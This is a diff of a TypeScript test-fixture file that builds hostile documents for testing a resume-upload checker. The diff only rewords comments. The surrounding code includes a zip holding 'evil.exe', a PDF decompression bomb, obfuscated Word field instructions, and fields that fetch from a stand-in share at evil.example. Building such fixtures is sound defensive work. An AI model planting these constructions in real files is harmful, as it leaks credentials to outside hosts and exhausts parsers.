@@ -1,4 +1,4 @@
-/** Documents that are whole and open well, and do or hide something that no resume has to. */
+/** Complete documents that open normally, but do or hide something that no resume needs. */
 import { deflateSync } from 'node:zlib'
 import { PDFDocument } from '@cantoo/pdf-lib'
 import type { RefusedFile } from './brokenFiles.ts'
@@ -59,7 +59,7 @@ const ARCHIVE = makeZip([{ name: 'evil.exe', data: 'MZ' }])
 const stream = (data: Buffer, entries = ''): string =>
   `<<${entries}/Length ${data.length}>>\nstream\n${data.toString('latin1')}\nendstream`
 
-/** An object stream with one object, which is whole, and then nothing but spaces. */
+/** An object stream with one complete object, followed by nothing but spaces. */
 const unpacking = (megabytes: number): string =>
   stream(
     deflateSync(Buffer.from('7 0 null'.padEnd(megabytes * 1024 * 1024))),
@@ -103,7 +103,7 @@ async function writtenPdfs(): Promise<HostileDocument[]> {
 const run = (content: string): string => `<w:r>${content}</w:r>`
 const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
 const instructed = (text: string, name = 'instrText'): string => run(`<w:${name}>${text}</w:${name}>`)
-/** A field whose instruction is in pieces of two letters. */
+/** A field whose instruction is split into pieces of two letters. */
 const inPieces = (instruction: string): string =>
   mark('begin') +
   (instruction.match(/..?/g) ?? []).map((piece) => instructed(piece.replaceAll('"', '&quot;'))).join('') +
@@ -111,7 +111,7 @@ const inPieces = (instruction: string): string =>
   run('<w:t>shown</w:t>') +
   mark('end')
 
-/** Fields that fetch something, in each form and place that Word reads them in. */
+/** Fields that fetch something, in every form and place in which Word reads them. */
 function wordFields(): HostileDocument[] {
   const share = String.raw`\\\\evil.example\\share\\a`
   const fields: [string, string][] = [
@@ -206,7 +206,7 @@ function wordFields(): HostileDocument[] {
   ]
 }
 
-/** Small files each of whose places leads through the rest of the file: the work must not grow with the square. */
+/** Small files in which every position leads through the rest of the file: the work must not grow quadratically. */
 function endless(): HostileDocument[] {
   const objects = (title: string, content: string): HostileDocument =>
     pdf(title, 'too complicated', makePdf({ objects: content }))
